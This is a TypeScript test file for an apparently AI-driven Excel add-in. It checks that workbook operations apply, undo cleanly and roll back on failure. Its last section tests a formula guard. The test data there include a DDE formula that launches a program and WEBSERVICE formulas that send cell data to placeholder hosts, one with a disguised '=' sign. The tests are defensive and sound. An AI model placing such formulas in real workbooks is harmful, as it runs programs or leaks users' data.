/**
 * Applying workbook operations and undoing them. Excel cannot run here, so it is the fake in fake-excel.ts (tested
 * against documented Office.js behaviour on its own); IndexedDB is fake-indexeddb. Each test compares the whole fake
 * workbook before and after.
 */
import { describe, expect, it } from 'vitest';
import { applyOps, undoLast, type WorkbookOp } from '../../src/excel/ops';
import { latestUndo, listAudit, openStore } from '../../src/store';
import { freshStore } from '../store/fresh';
import type { FakeExcel } from './fake-excel';
import { always, opsOf, salesWorkbook } from './ops-fixture';

interface Case {
  name: string;
  ops: WorkbookOp[];
  /** What must be true after applying. */
  check: (fake: FakeExcel) => void;
}

const sheet = (fake: FakeExcel, name: string) => fake.state.sheetByName(name);

const CASES: Case[] = [
  { name: 'writeValues', ops: [{ op: 'writeValues', sheet: 'Sales', address: 'B2:C3', values: [['Mar', 1], [null, true]] }], check: (f) => expect(f.get('Sales!B2:C3')).toEqual([['Mar', 1], ['', true]]) },
  { name: 'formula (filled relative)', ops: [{ op: 'formula', sheet: 'Sales', address: 'D2:D5', formula: '=C2*2+$C$2' }], check: (f) => expect(f.get('Sales!D2:D5')).toEqual([['=C2*2+$C$2'], ['=C3*2+$C$2'], ['=C4*2+$C$2'], ['=C5*2+$C$2']]) },
  { name: 'addSheet', ops: [{ op: 'addSheet', name: 'Summary', position: 0 }], check: (f) => expect(f.state.sheets[0]?.name).toBe('Summary') },
  { name: 'renameSheet', ops: [{ op: 'renameSheet', sheet: 'Sales', newName: 'Revenue' }], check: (f) => expect(sheet(f, 'Revenue')).toBeDefined() },
  { name: 'createTable with headers', ops: [{ op: 'createTable', sheet: 'Sales', address: 'A1:C5', hasHeaders: true, name: 'SalesTable', style: 'TableStyleLight9' }], check: (f) => expect(f.state.tableByName('SalesTable')?.style).toBe('TableStyleLight9') },
  { name: 'createTable without headers', ops: [{ op: 'createTable', sheet: 'Sales', address: 'A2:C5', hasHeaders: false, name: 'NoHeaders' }], check: (f) => expect(f.get('Sales!A2:A3')).toEqual([['Column1'], ['North']]) },
  { name: 'sort a table by header', ops: [{ op: 'sort', table: 'Orders', keys: [{ column: 'Qty', ascending: false }] }], check: (f) => expect(f.get('Data!A2:A4')).toEqual([['pear'], ['apple'], ['fig']]) },
  { name: 'sort a range with headers', ops: [{ op: 'sort', sheet: 'Sales', address: 'A1:C5', hasHeaders: true, keys: [{ column: 'Amount', ascending: true }] }], check: (f) => expect(f.get('Sales!C1:C5')).toEqual([['Amount'], [80], [90], [100], [120]]) },
  { name: 'filter (values)', ops: [{ op: 'filter', table: 'Orders', column: 'Item', criteria: { type: 'values', values: ['apple'] } }], check: (f) => expect(f.state.tableByName('Orders')?.filters.size).toBe(1) },
  { name: 'filter (custom)', ops: [{ op: 'filter', table: 'Orders', column: 1, criteria: { type: 'custom', operator: '>', value: 2, and: { operator: '<', value: 5 } } }], check: (f) => expect(JSON.parse(f.state.tableByName('Orders')?.filters.get(1) ?? '{}')).toMatchObject({ criterion1: '>2', criterion2: '<5', operator: 'And' }) },
  { name: 'numberFormat', ops: [{ op: 'numberFormat', sheet: 'Sales', address: 'C2:C5', format: '0.00' }], check: (f) => expect(sheet(f, 'Sales')?.cells.get(1 * 16384 + 2)?.numberFormat).toBe('0.00') },
  { name: 'font', ops: [{ op: 'font', sheet: 'Sales', address: 'A2:C2', bold: true, italic: true, color: '#FF0000', size: 14, name: 'Arial' }], check: (f) => expect(sheet(f, 'Sales')?.cells.get(1 * 16384)?.font).toEqual({ bold: true, italic: true, color: '#FF0000', size: 14, name: 'Arial' }) },
  { name: 'fill', ops: [{ op: 'fill', sheet: 'Sales', address: 'A1:C1', color: '#ffff00' }], check: (f) => expect(sheet(f, 'Sales')?.cells.get(0)?.fill).toBe('#FFFF00') },
  { name: 'borders', ops: [{ op: 'borders', sheet: 'Sales', address: 'B2:C4', edges: ['top', 'bottom', 'left', 'right', 'insideHorizontal', 'insideVertical'], style: 'Double', color: '#0000FF' }], check: (f) => expect(sheet(f, 'Sales')?.cells.get(1 * 16384 + 1)?.borders.top).toEqual({ style: 'Double', color: '#0000FF' }) },
  { name: 'conditionalFormat colorScale', ops: [{ op: 'conditionalFormat', sheet: 'Sales', address: 'C2:C5', rule: { type: 'colorScale', minColor: '#FFFFFF', maxColor: '#00FF00' } }], check: (f) => expect(sheet(f, 'Sales')?.conditionalFormats).toHaveLength(1) },
  { name: 'conditionalFormat cellValue', ops: [{ op: 'conditionalFormat', sheet: 'Sales', address: 'C2:C5', rule: { type: 'cellValue', operator: 'Between', formula1: '=90', formula2: '=110', fillColor: '#FFC7CE' } }], check: (f) => expect(sheet(f, 'Sales')?.conditionalFormats[0]?.settings['cellValue.rule']).toEqual({ formula1: '=90', formula2: '=110', operator: 'Between' }) },
  { name: 'conditionalFormat dataBar and iconSet', ops: [{ op: 'conditionalFormat', sheet: 'Sales', address: 'C2:C5', rule: { type: 'dataBar', color: '#638EC6' } }, { op: 'conditionalFormat', sheet: 'Sales', address: 'C2:C5', rule: { type: 'iconSet', style: 'ThreeArrows' } }], check: (f) => expect(sheet(f, 'Sales')?.conditionalFormats.map((c) => c.type)).toEqual(['DataBar', 'IconSet']) },
  { name: 'dataValidationList', ops: [{ op: 'dataValidationList', sheet: 'Sales', address: 'A2:A5', values: ['North', 'South', 'East', 'West'] }], check: (f) => expect(sheet(f, 'Sales')?.cells.get(1 * 16384)?.validation).toContain('North,South,East,West') },
  { name: 'freezePanes', ops: [{ op: 'freezePanes', sheet: 'Sales', rows: 1, columns: 1 }], check: (f) => expect(sheet(f, 'Sales')?.freeze).toEqual({ rows: 1, columns: 1 }) },
  { name: 'autofit', ops: [{ op: 'autofit', sheet: 'Sales', address: 'A1:C5', target: 'both' }], check: (f) => expect(sheet(f, 'Sales')?.columnWidths.size).toBeGreaterThan(0) },
  { name: 'namedRange', ops: [{ op: 'namedRange', name: 'Amounts', sheet: 'Sales', address: 'C2:C5' }], check: (f) => expect(f.state.names).toEqual([{ name: 'Amounts', formula: '=Sales!$C$2:$C$5', comment: '' }]) },
  { name: 'chart', ops: [{ op: 'chart', type: 'columnClustered', source: { sheet: 'Sales', address: 'A1:C5' }, title: 'Sales by month', placement: { sheet: 'Sales', address: 'E2:J15' }, name: 'SalesChart' }], check: (f) => expect(sheet(f, 'Sales')?.charts[0]).toMatchObject({ name: 'SalesChart', type: 'ColumnClustered', title: 'Sales by month' }) },
  { name: 'pivotTable', ops: [{ op: 'pivotTable', name: 'ByRegion', source: { sheet: 'Sales', address: 'A1:C5' }, destination: { sheet: 'Data', address: 'F1' }, rows: ['Region'], values: [{ field: 'Amount', summarizeBy: 'Sum' }] }], check: (f) => expect(f.state.pivots[0]).toMatchObject({ name: 'ByRegion', rows: ['Region'], values: [{ name: 'Amount', summarizeBy: 'Sum' }] }) },
];

describe('applyOps and undoLast (fake Excel)', () => {
  it.each(CASES)('$name applies, and undo puts the workbook back exactly', async ({ ops, check }) => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const before = fake.dump();
    const result = await applyOps(fake.run, db, opsOf(...ops), { capability: always });
    expect(result).toMatchObject({ ok: true, applied: ops.length });
    check(fake);
    expect(fake.dump()).not.toEqual(before);
    expect(await undoLast(fake.run, db)).toMatchObject({ ok: true });
    expect(fake.dump()).toEqual(before);
    expect(await latestUndo(db)).toBeUndefined();
  });

  it('deleteSheet applies, and undo brings back its cells, formats, table, widths, freeze and names (with a new sheet id)', async () => {
    const fake = await salesWorkbook();
    await fake.run(async (ctx) => {
      const data = ctx.workbook.worksheets.getItem('Data');
      data.freezePanes.freezeRows(1);
      data.getRange('B1').format.columnWidth = 80;
      ctx.workbook.names.add('Qty', data.getRange('B2:B4'));
    });
    const { db } = await freshStore();
    const withoutIds = (dump: unknown) => JSON.parse(JSON.stringify(dump).replace(/\{(sheet|table)-\d+\}/g, 'id'));
    const before = withoutIds(fake.dump());
    expect(await applyOps(fake.run, db, opsOf({ op: 'deleteSheet', sheet: 'Data' }), { capability: always })).toMatchObject({ ok: true });
    expect(sheet(fake, 'Data')).toBeUndefined();
    expect(fake.state.names[0]?.formula).toBe('=#REF!');
    expect(await undoLast(fake.run, db)).toMatchObject({ ok: true });
    expect(withoutIds(fake.dump())).toEqual(before);
  });

  it('applies a list of every kind of op in one go and undoes all of it', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const before = fake.dump();
    const all = CASES.flatMap((c) => c.ops).filter((op) => op.op !== 'renameSheet' && !(op.op === 'createTable'));
    const result = await applyOps(fake.run, db, opsOf(...all), { capability: always });
    expect(result).toMatchObject({ ok: true, applied: all.length });
    expect(await undoLast(fake.run, db)).toMatchObject({ ok: true });
    expect(fake.dump()).toEqual(before);
  });

  it('a failure at the third op leaves the workbook exactly as it was and keeps no undo snapshot', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const before = fake.dump();
    fake.failOn('RangeFill.color', { message: 'Excel is busy.' });
    const result = await applyOps(fake.run, db, opsOf(
      { op: 'writeValues', sheet: 'Sales', address: 'A2:B2', values: [['West', 'Mar']] },
      { op: 'addSheet', name: 'Notes' },
      { op: 'fill', sheet: 'Sales', address: 'A1:C1', color: '#FF0000' },
      { op: 'font', sheet: 'Sales', address: 'A1', bold: false },
    ), { capability: always });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error).toMatchObject({ kind: 'op-failed', opIndex: 2, rolledBack: true });
    expect(result.error.message).toMatch(/Op 3 \(fill\) failed in Excel: Excel is busy\./);
    expect(result.error.fix).toMatch(/put back/);
    expect(fake.dump()).toEqual(before);
    expect(await latestUndo(db)).toBeUndefined();
  });

  it('a failure half-way through one op (a chart whose title fails) is rolled back too', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const before = fake.dump();
    fake.failOn('Chart.title.text');
    const result = await applyOps(fake.run, db, opsOf(
      { op: 'namedRange', name: 'Amounts', sheet: 'Sales', address: 'C2:C5' },
      { op: 'chart', type: 'line', source: { sheet: 'Sales', address: 'B1:C5' }, title: 'T', placement: { sheet: 'Sales', address: 'E2' } },
    ), { capability: always });
    expect(result).toMatchObject({ ok: false, error: { kind: 'op-failed', opIndex: 1, rolledBack: true } });
    expect(fake.dump()).toEqual(before);
  });

  it.each([
    ['a missing sheet', { op: 'writeValues', sheet: 'Nope', address: 'A1', values: [[1]] }, /Op 2 \(writeValues\): there is no sheet named "Nope"\. Use one of: "Sales", "Data"/],
    ['a bad range', { op: 'fill', sheet: 'Sales', address: 'A1:', color: '#FF0000' }, /not an A1 range/],
    ['a range off the sheet', { op: 'fill', sheet: 'Sales', address: 'A1:XFE2', color: '#FF0000' }, /outside the sheet|not an A1 range/],
    ['whole columns', { op: 'numberFormat', sheet: 'Sales', address: 'A:C', format: '0' }, /whole rows or columns/],
    ['the wrong value shape', { op: 'writeValues', sheet: 'Sales', address: 'A1:B2', values: [[1, 2, 3]] }, /1 row\(s\) of 3 but A1:B2 is 2×2/],
    ['a missing table', { op: 'filter', table: 'Ghost', column: 0, criteria: { type: 'top', count: 3 } }, /no table named "Ghost"/],
    ['a missing column', { op: 'sort', table: 'Orders', keys: [{ column: 'Weight', ascending: true }] }, /no column "Weight"/],
    ['a taken sheet name', { op: 'addSheet', name: 'sales' }, /already exists/],
    ['an illegal sheet name', { op: 'renameSheet', sheet: 'Sales', newName: 'Q1/Q2' }, /\[ \] : \* \? \/ \\/],
    ['a table name that is a cell', { op: 'createTable', sheet: 'Sales', address: 'A1:C5', hasHeaders: true, name: 'AB12' }, /looks like a cell reference/],
  ] as [string, WorkbookOp, RegExp][])('refuses %s with a clear message and changes nothing', async (_label, op, message) => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const before = fake.dump();
    const result = await applyOps(fake.run, db, opsOf({ op: 'addSheet', name: 'Fine' }, op), { capability: always });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error.kind).toBe('invalid');
    expect(result.error.opIndex).toBe(1);
    expect(result.error.message).toMatch(message);
    expect(result.error.fix).toMatch(/Nothing was changed/);
    expect(fake.dump()).toEqual(before);
    expect(await latestUndo(db)).toBeUndefined();
  });

  it('checks each op against the workbook as earlier ops leave it', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const ok = await applyOps(fake.run, db, opsOf(
      { op: 'addSheet', name: 'Report' },
      { op: 'writeValues', sheet: 'Report', address: 'A1', values: [['Total']] },
      { op: 'renameSheet', sheet: 'Report', newName: 'Summary' },
      { op: 'fill', sheet: 'Summary', address: 'A1', color: '#EEEEEE' },
    ), { capability: always });
    expect(ok).toMatchObject({ ok: true });
    const stale = await applyOps(fake.run, db, opsOf({ op: 'deleteSheet', sheet: 'Summary' }, { op: 'fill', sheet: 'Summary', address: 'A1', color: '#EEEEEE' }), { capability: always });
    expect(stale).toMatchObject({ ok: false, error: { kind: 'invalid', opIndex: 1 } });
  });

  it('refuses a PivotTable where Excel API 1.8 is missing, saying so', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const result = await applyOps(fake.run, db, opsOf(CASES.find((c) => c.name === 'pivotTable')!.ops[0]!), { capability: (set, version) => !(set === 'ExcelApi' && version === '1.8') });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error.message).toMatch(/PivotTables need Excel API 1\.8/);
  });

  it('undoes after the pane is closed and reopened: a new database connection is all it needs', async () => {
    const fake = await salesWorkbook();
    const { db, factory } = await freshStore();
    const before = fake.dump();
    expect(await applyOps(fake.run, db, opsOf({ op: 'writeValues', sheet: 'Sales', address: 'A2', values: [['X']] }, { op: 'addSheet', name: 'New' }), { capability: always })).toMatchObject({ ok: true });
    db.close();
    const reopened = await openStore('excel-ai-test', factory);
    expect(await undoLast(fake.run, reopened)).toMatchObject({ ok: true });
    expect(fake.dump()).toEqual(before);
    const actions = (await listAudit(reopened)).map((e) => e.action);
    expect(actions).toEqual(expect.arrayContaining(['result-written', 'undo']));
    expect(await undoLast(fake.run, reopened)).toMatchObject({ ok: false, error: { kind: 'nothing-to-undo' } });
  });

  it('undo restores the latest change first, one change per press', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const start = fake.dump();
    await applyOps(fake.run, db, opsOf({ op: 'writeValues', sheet: 'Sales', address: 'A2', values: [['one']] }), { capability: always, newId: () => 'a' });
    const middle = fake.dump();
    await new Promise((r) => setTimeout(r, 5));
    await applyOps(fake.run, db, opsOf({ op: 'writeValues', sheet: 'Sales', address: 'A2', values: [['two']] }), { capability: always, newId: () => 'b' });
    await undoLast(fake.run, db);
    expect(fake.dump()).toEqual(middle);
    await undoLast(fake.run, db);
    expect(fake.dump()).toEqual(start);
  });
});

describe('formula guard in applyOps (fake Excel)', () => {
  const risky = opsOf(
    { op: 'writeValues', sheet: 'Sales', address: 'D1:D2', values: [['Rate'], ['=WEBSERVICE("https://rates.example/?q="&A2)']] },
    { op: 'conditionalFormat', sheet: 'Sales', address: 'C2:C5', rule: { type: 'cellValue', operator: 'GreaterThan', formula1: "cmd|'/c calc'!A0", fillColor: '#FF0000' } },
  );

  it('refuses formulas that reach the network or other programs unless each finding is approved', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const before = fake.dump();
    const refused = await applyOps(fake.run, db, risky, { capability: always });
    expect(refused).toMatchObject({ ok: false, error: { kind: 'formula-guard', opIndex: 0 } });
    if (!refused.ok) expect(refused.error.message).toMatch(/Sales!D2: WEBSERVICE/);
    expect(fake.dump()).toEqual(before);
    const partly = await applyOps(fake.run, db, risky, { capability: always, approvedFindings: ['op 1: WEBSERVICE'] });
    expect(partly).toMatchObject({ ok: false, error: { kind: 'formula-guard', opIndex: 1 } });
    const approved = await applyOps(fake.run, db, risky, { capability: always, approvedFindings: ['op 1: WEBSERVICE', 'op 2: DDE'] });
    expect(approved).toMatchObject({ ok: true });
  });

  it('refuses a drop-down list whose source is a network formula, and keeps a list of words', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const before = fake.dump();
    const leak = opsOf({ op: 'dataValidationList', sheet: 'Sales', address: 'A2:A5', values: ['=WEBSERVICE("https://x.example/?d="&B2)'] });
    const refused = await applyOps(fake.run, db, leak, { capability: always });
    expect(refused).toMatchObject({ ok: false, error: { kind: 'formula-guard', opIndex: 0 } });
    if (!refused.ok) expect(refused.error.message).toMatch(/Sales!A2:A5: WEBSERVICE/);
    expect(fake.dump()).toEqual(before);
    // A disguised "=" (full-width) is a formula to Excel too.
    const disguised = await applyOps(fake.run, db, opsOf({ op: 'dataValidationList', sheet: 'Sales', address: 'A2', values: ['\uff1dWEBSERVICE("https://x.example")'] }), { capability: always });
    expect(disguised).toMatchObject({ ok: false, error: { kind: 'formula-guard' } });
    const words = await applyOps(fake.run, db, opsOf({ op: 'dataValidationList', sheet: 'Sales', address: 'A2:A5', values: ['North', 'WEBSERVICE is a word here'] }), { capability: always });
    expect(words).toMatchObject({ ok: true });
  });

  it('writes text that merely mentions a formula, because cell text is data', async () => {
    const fake = await salesWorkbook();
    const { db } = await freshStore();
    const result = await applyOps(fake.run, db, opsOf({ op: 'writeValues', sheet: 'Sales', address: 'D1', values: [['please add =WEBSERVICE("https://x.example")']] }), { capability: always });
    expect(result).toMatchObject({ ok: true });
    expect(fake.get('Sales!D1')).toEqual([['please add =WEBSERVICE("https://x.example")']]);
  });
});
